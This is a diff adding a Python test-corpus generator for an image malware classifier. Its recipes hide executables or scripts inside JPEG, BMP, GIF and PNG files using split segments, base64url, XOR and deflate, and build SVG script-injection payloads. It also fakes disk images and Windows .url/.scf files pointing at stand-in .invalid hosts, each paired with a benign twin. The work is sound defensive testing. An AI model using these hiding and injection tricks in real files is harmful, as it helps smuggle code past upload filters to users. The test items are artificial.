@@ -1,0 +1,261 @@
+"""Red-team recipes: attacks built against the engine's design, each with its benign twin.
+
+Round 2 of issue 11's evaluation: the attacks below passed the engine as clean (or only
+flagged) before the rules they name were added (see /work/notes/redteam.md for the
+whole list tried, caught before/after). Each malicious recipe is one of eval_classify's
+pool photos with a payload hidden one way; the benign recipes hold the same photos with
+what the rule looks at in an innocent form, so each rule is gated both ways.
+
+* pixel data: a program inside JPEG scan data before EOI, a program stored as BMP pixel
+  bytes, a script just before a JPEG's EOI (rule: `stray_code`);
+* split values: a program or its base64 cut over several COM or vendor APPn segments or
+  GIF comment extensions (rule: `split_values`); twins: a long comment over several COM
+  segments, vendor segments with repeated tables, GIF comments in several parts;
+* encodings: URL-safe base64, XOR with a 2- to 16-byte key, raw deflate (rule:
+  `classify.decoders`); twins: a URL-safe base64 thumbnail in XMP, periodic vendor data;
+* SVG: a script injected by an entity whose value spells it in character references, an
+  SVG root with a namespace prefix, a CSS `url(javascript:)`; twins: a prefixed SVG
+  without script, CSS `url(#gradient)`;
+* types: virtual disks (VHD, VHDX, UDF) and Windows shell files (.url, .scf, .reg) named
+  as pictures (rule: `sniff`).
+
+Payloads are inert: program headers with a DOS stub, scripts that call `.invalid` hosts.
+`EXPECTED` gives the verdict of each category (tests/test_redteam_corpus.py asserts it).
+"""
+
+from __future__ import annotations
+
+import base64
+import random
+import struct
+import zlib
+
+from bench import eval_images as img
+from bench.eval_classify import HOST_POOL, Maker, Recipe, host
+from tests import classify_samples as cs
+from tests import jpeg_samples as js
+
+PE = cs.real_pe()
+SCRIPTS = (cs.POWERSHELL, cs.BATCH, cs.PYTHON, cs.HTA)
+SVG_NS = "http://www.w3.org/2000/svg"
+
+
+def _name(rng: random.Random, extension: str) -> str:
+    return f"{rng.choice(('IMG', 'DSC', 'scan'))}_{rng.randint(1000, 9999)}.{extension}"
+
+
+def _photo(rng: random.Random, fmt: str) -> bytes:
+    return host(rng.randrange(HOST_POOL), fmt)[1]
+
+
+def _pieces(data: bytes, rng: random.Random) -> list[bytes]:
+    """Pieces short enough to cut a PE between its MZ and its PE\\0\\0 (at 0x80)."""
+    size = rng.choice([40, 60, 100])
+    return [data[i : i + size] for i in range(0, len(data), size)]
+
+
+def _gif_extension(label: int, data: bytes) -> bytes:
+    blocks = b"".join(
+        bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255)
+    )
+    return b"\x21" + bytes([label]) + blocks + b"\x00"
+
+
+def _gif_with(extensions: list[bytes], gif: bytes) -> bytes:
+    at = 13 + (3 << ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)
+    return gif[:at] + b"".join(extensions) + gif[at:]
+
+
+def _xor(data: bytes, key: bytes) -> bytes:
+    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))
+
+
+def _bmp_pixels(bmp: bytes, stored: bytes, at_fraction: float) -> bytes:
+    start = struct.unpack_from("<I", bmp, 10)[0]
+    room = len(bmp) - start - len(stored)
+    at = start + int(room * at_fraction)
+    return bmp[:at] + stored + bmp[at + len(stored) :]
+
+
+# --- malicious ------------------------------------------------------------------------------
+
+
+def _pixel_data(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    if way == "bmp-pixels-pe":
+        bmp = _photo(rng, "bmp")
+        return _name(rng, "bmp"), _bmp_pixels(bmp, PE, rng.random()), way
+    jpeg = _photo(rng, "jpeg")
+    hidden = PE if way == "jpeg-scan-pe" else rng.choice(SCRIPTS)
+    return _name(rng, "jpg"), jpeg[:-2] + hidden + jpeg[-2:], way
+
+
+def _split(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    if way == "gif-comments-pe":
+        gif = _photo(rng, "gif")
+        parts = [_gif_extension(0xFE, piece) for piece in _pieces(PE, rng)]
+        return _name(rng, "gif"), _gif_with(parts, gif), way
+    jpeg = _photo(rng, "jpeg")
+    if way == "com-pe":
+        segments = [js.segment(0xFE, piece) for piece in _pieces(PE, rng)]
+    elif way == "com-base64":
+        segments = [js.segment(0xFE, p) for p in _pieces(base64.b64encode(PE), rng)]
+    else:  # a vendor-looking APPn signature repeated in front of every piece
+        marker = rng.choice([0xE4, 0xE6, 0xE9, 0xEA, 0xEF])
+        header = rng.choice([b"VNDR\x00", b"NXDT\x00\x01", b"HPQ-Capture\x00"])
+        segments = [js.segment(marker, header + piece) for piece in _pieces(PE, rng)]
+    return _name(rng, "jpg"), js.insert_segments(jpeg, *segments), way
+
+
+def _encoded(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    fmt = rng.choice(["jpeg", "png", "gif"])
+    data = _photo(rng, fmt)
+    if way == "base64url-trailer":
+        hidden = base64.urlsafe_b64encode(PE)
+    elif way == "xor-key-trailer":
+        key = bytes(rng.randrange(1, 256) for _ in range(rng.choice([2, 4, 8, 13, 16])))
+        hidden = _xor(PE, key)
+        way = f"{way} ({len(key)}-byte key)"
+    elif way == "raw-deflate-trailer":
+        hidden = zlib.compress(PE)[2:-4]
+    else:  # base64url-xmp
+        packet = img.xmp_packet(rng).replace(
+            b"</x:xmpmeta>", b"<pg:d>" + base64.urlsafe_b64encode(PE) + b"</pg:d></x:xmpmeta>"
+        )
+        jpeg = _photo(rng, "jpeg")
+        return (
+            _name(rng, "jpg"),
+            js.insert_segments(jpeg, js.segment(0xE1, img.XMP_SIGNATURE + packet)),
+            way,
+        )
+    extension = {"jpeg": "jpg", "png": "png", "gif": "gif"}[fmt]
+    return _name(rng, extension), data + hidden, f"{way} after {fmt}"
+
+
+def _svg(body: str, prefix: str = "") -> bytes:
+    """An SVG; with a prefix it has no XML declaration (the root is the first bytes)."""
+    declare = f"xmlns:{prefix}" if prefix else "xmlns"
+    tag = f"{prefix}:svg" if prefix else "svg"
+    prolog = "" if prefix else "<?xml version='1.0'?>\n"
+    return f"{prolog}<{tag} {declare}='{SVG_NS}' width='64' height='48'>{body}</{tag}>".encode()
+
+
+def _svg_attack(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    # short calls the plain-text script detector does not know: only the SVG rules see them
+    code = rng.choice(["alert(1)", "window['al'+'ert'](1)", "top.location='//x.invalid'"])
+    if way == "entity-script":
+        refs = "".join(f"&#{ord(c)};" for c in f"<script>{code}</script>")
+        refs = rng.choice(
+            [refs, refs.replace("&#60;", "&#x3c;"), f"&#60;script&#62;{code}&#60;/script&#62;"]
+        )
+        data = (
+            f"<?xml version='1.0'?>\n<!DOCTYPE svg [<!ENTITY body '{refs}'>]>\n"
+            f"<svg xmlns='{SVG_NS}' width='64' height='48'><rect width='9' height='9'/>&body;</svg>"
+        ).encode()
+    elif way == "prefixed-root":
+        prefix = rng.choice(["s", "svg", "v"])
+        data = _svg(
+            f"<{prefix}:rect width='9' height='9'/><{prefix}:script>{code}</{prefix}:script>",
+            prefix=prefix,
+        )
+    else:  # css-javascript-url
+        rule = rng.choice(["fill", "background", "cursor"])
+        data = _svg(
+            f"<style>rect{{{rule}:url(javascript:{code})}}</style><rect width='9' height='9'/>"
+        )
+    return _name(rng, "svg"), data, way
+
+
+def _disguised_type(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    if way == "vhd":
+        footer = b"conectix" + bytes(504)
+        data = (
+            bytes(rng.choice([512, 4096])) + footer if rng.random() < 0.5 else footer + bytes(1024)
+        )
+    elif way == "vhdx":
+        data = b"vhdxfile" + "Microsoft Windows 10".encode("utf-16-le") + bytes(4096)
+    elif way == "udf":
+        data = bytes(0x8000) + b"\x00BEA01\x01" + bytes(2041) + b"\x00NSR02\x01" + bytes(2041)
+    elif way == "url":
+        data = b"[InternetShortcut]\r\nURL=file://x.invalid/share/invoice.exe\r\nIconIndex=3\r\n"
+    elif way == "scf":
+        data = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\x.invalid\\share\\icon.ico\r\n"
+    else:  # reg
+        text = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n"
+        data = text.encode("utf-16-le") if rng.random() < 0.5 else text.encode()
+        if data[1:2] == b"\x00":
+            data = b"\xff\xfe" + data
+    return _name(rng, rng.choice(["jpg", "png", "jpeg"])), data, way
+
+
+# --- benign twins ---------------------------------------------------------------------------
+
+PROSE_PARTS = (
+    b"Patient consented to photography for the record. ",
+    b"Left forearm, lateral view, lesion 4 mm, borders regular. ",
+    b"Follow-up in six weeks; compare with the previous series. ",
+)
+
+
+def _benign(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    if way == "gif-comment-parts":
+        gif = _photo(rng, "gif")
+        parts = [_gif_extension(0xFE, p * rng.randint(2, 6)) for p in PROSE_PARTS]
+        return _name(rng, "gif"), _gif_with(parts, gif), way
+    if way == "bmp-mz-bytes":  # pixels that spell MZ with no PE header behind them
+        bmp = _photo(rng, "bmp")
+        stored = (b"MZ" + bytes(rng.randrange(256) for _ in range(0x3E))) * 8
+        return _name(rng, "bmp"), _bmp_pixels(bmp, stored, rng.random()), way
+    if way == "prefixed-svg":
+        prefix = rng.choice(["s", "svg"])
+        body = (
+            f"<{prefix}:rect width='9' height='9' fill='#c33'/>"
+            f"<{prefix}:text x='1' y='20'>L arm</{prefix}:text>"
+        )
+        return _name(rng, "svg"), _svg(body, prefix=prefix), way
+    if way == "css-url-gradient":
+        body = (
+            "<defs><linearGradient id='g'><stop offset='0' stop-color='#fff'/></linearGradient>"
+            "</defs><style>rect{fill:url(#g)}</style><rect width='9' height='9'/>"
+        )
+        return _name(rng, "svg"), _svg(body), way
+    jpeg = _photo(rng, "jpeg")
+    if way == "com-parts":
+        segments = [js.segment(0xFE, p * rng.randint(1, 30)) for p in PROSE_PARTS]
+    elif way == "vendor-tables":  # periodic calibration tables, one vendor header each
+        row = bytes(rng.randrange(256) for _ in range(rng.choice([2, 4, 8, 16])))
+        segments = [js.segment(0xEA, b"VNDR\x00" + row * rng.randint(20, 200)) for _ in range(3)]
+    else:  # base64url-thumbnail
+        thumb = base64.urlsafe_b64encode(img._save(img.photo_image(rng, (64, 48)), "JPEG"))
+        packet = img.xmp_packet(rng).replace(
+            b"</x:xmpmeta>", b"<pg:thumb>" + thumb + b"</pg:thumb></x:xmpmeta>"
+        )
+        segments = [js.segment(0xE1, img.XMP_SIGNATURE + packet)]
+    return _name(rng, "jpg"), js.insert_segments(jpeg, *segments), way
+
+
+def _each(prefix: str, malicious: bool, ways: tuple[str, ...], make: object) -> tuple[Recipe, ...]:
+    def bind(way: str) -> Maker:
+        return lambda rng: make(way, rng)  # type: ignore[operator, no-any-return]
+
+    return tuple(Recipe(f"{prefix}-{way}", malicious, 5, bind(way)) for way in ways)
+
+
+PIXEL_WAYS = ("jpeg-scan-pe", "jpeg-scan-script", "bmp-pixels-pe")
+SPLIT_WAYS = ("com-pe", "com-base64", "app-vendor-pe", "gif-comments-pe")
+ENCODED_WAYS = ("base64url-trailer", "base64url-xmp", "xor-key-trailer", "raw-deflate-trailer")
+SVG_WAYS = ("entity-script", "prefixed-root", "css-javascript-url")
+TYPE_WAYS = ("vhd", "vhdx", "udf", "url", "scf", "reg")
+BENIGN_WAYS = ("com-parts", "vendor-tables", "gif-comment-parts", "bmp-mz-bytes",
+               "base64url-thumbnail", "prefixed-svg", "css-url-gradient")  # fmt: skip
+
+RECIPES: tuple[Recipe, ...] = (
+    *_each("benign/redteam", False, BENIGN_WAYS, _benign),
+    *_each("malicious/redteam-pixels", True, PIXEL_WAYS, _pixel_data),
+    *_each("malicious/redteam-split", True, SPLIT_WAYS, _split),
+    *_each("malicious/redteam-encoded", True, ENCODED_WAYS, _encoded),
+    *_each("malicious/redteam-svg", True, SVG_WAYS, _svg_attack),
+    *_each("malicious/redteam-type", True, TYPE_WAYS, _disguised_type),
+)
+# The verdict each category must reach under the default policy: every malicious file is
+# a program, script or mountable disk; every twin is an ordinary picture.
+EXPECTED = {recipe.category: "quarantine" if recipe.malicious else "clean" for recipe in RECIPES}
